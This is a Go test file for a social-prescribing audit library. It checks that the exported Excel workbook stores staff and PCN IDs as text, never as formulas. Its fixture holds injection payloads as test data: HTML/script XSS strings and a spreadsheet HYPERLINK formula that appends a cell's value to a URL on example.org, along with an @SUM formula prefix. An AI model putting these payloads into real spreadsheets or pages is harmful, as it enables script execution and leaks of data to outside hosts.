package xlsx_test

import (
	"bytes"
	"regexp"
	"strings"
	"testing"

	sp "github.com/socialprescribing/go-socialprescribing"
	"github.com/socialprescribing/go-socialprescribing/render/xlsx"
	"github.com/socialprescribing/go-socialprescribing/workforce"

	"github.com/xuri/excelize/v2"
)

// hostileReport audits claims whose IDs are valid but would be markup, a formula or a quote if
// written as they are.
func hostileReport() workforce.Report {
	ids := []string{`<img src=x onerror=alert(1)>`, `=HYPERLINK("http://example.org/?"&A1,"click")`, `@SUM(1+1)`, `"quoted" & 'single'`}
	in := workforce.Input{PCNs: []workforce.PCN{{ID: "</td><script>alert(2)</script>", ListSize: 40000}}}
	for _, id := range ids {
		in.Staff = append(in.Staff, workforce.StaffMember{ID: id, PCN: in.PCNs[0].ID, Role: sp.RoleLinkWorker, Employment: workforce.EmploymentDirect,
			Start: sp.MustParseDate("2023-04-01"), WTE: []workforce.WTEPeriod{{From: sp.MustParseDate("2023-04-01"), WTE: workforce.MustParseWTE("1")}}})
		in.Claims = append(in.Claims, workforce.Claim{PCN: in.PCNs[0].ID, Staff: id, Month: sp.MustParseDate("2023-07-01"),
			Salary: workforce.MustParseMoney("5000.00"), EmployerNationalInsurance: workforce.MustParseMoney("0.00"), EmployerPension: workforce.MustParseMoney("0.00")})
	}
	return workforce.Audit(in, workforce.DefaultRules())
}

// TestAuditWorkbook reads the workbook back: the sheets, amounts as numbers with two decimals, IDs
// as text (never a formula), a frozen header and a table with filters on each sheet.
func TestAuditWorkbook(t *testing.T) {
	t.Parallel()
	rep := hostileReport()
	var b bytes.Buffer
	if err := xlsx.AuditWorkbook(&b, rep); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got, want := strings.Join(f.GetSheetList(), ","), "Summary,Lines,Findings,PCN years,Rules"; got != want {
		t.Errorf("sheets: got %s, want %s", got, want)
	}
	rows, err := f.GetRows("Lines")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(rep.Lines)+1 || rows[0][0] != "Claim" {
		t.Fatalf("Lines: got %d rows starting %v, want a header and %d lines", len(rows), rows[0], len(rep.Lines))
	}
	for r := 2; r <= len(rows); r++ {
		for _, col := range []string{"A", "B", "C"} {
			cell := col + itoa(r)
			typ, _ := f.GetCellType("Lines", cell)
			formula, _ := f.GetCellFormula("Lines", cell)
			if formula != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
				t.Errorf("Lines!%s: type %v formula %q, want a text cell", cell, typ, formula)
			}
		}
		// Allowed (column Q) is a number shown with two decimals.
		typ, _ := f.GetCellType("Lines", "Q"+itoa(r))
		v, _ := f.GetCellValue("Lines", "Q"+itoa(r))
		if typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("Lines!Q%d: type %v, want a number", r, typ)
		}
		if !regexp.MustCompile(`^[0-9,]+\.[0-9]{2}$`).MatchString(v) {
			t.Errorf("Lines!Q%d shows %q, want two decimals", r, v)
		}
	}
	staff, _ := f.GetCellValue("Lines", "C2")
	found := false
	for _, l := range rep.Lines {
		found = found || l.Staff == staff
	}
	if !found {
		t.Errorf("Lines!C2 is %q, not a staff ID of the report", staff)
	}
	for _, sheet := range f.GetSheetList() {
		panes, err := f.GetPanes(sheet)
		if err != nil || !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: panes %+v, want the header row frozen", sheet, panes)
		}
		tables, err := f.GetTables(sheet)
		if err != nil || len(tables) != 1 || !strings.HasPrefix(tables[0].Range, "A1:") {
			t.Errorf("%s: tables %+v, want one from A1 (filters on the header)", sheet, tables)
		}
	}
}

func itoa(n int) string {
	s := ""
	for n > 0 || s == "" {
		s = string(rune('0'+n%10)) + s
		n /= 10
	}
	return s
}
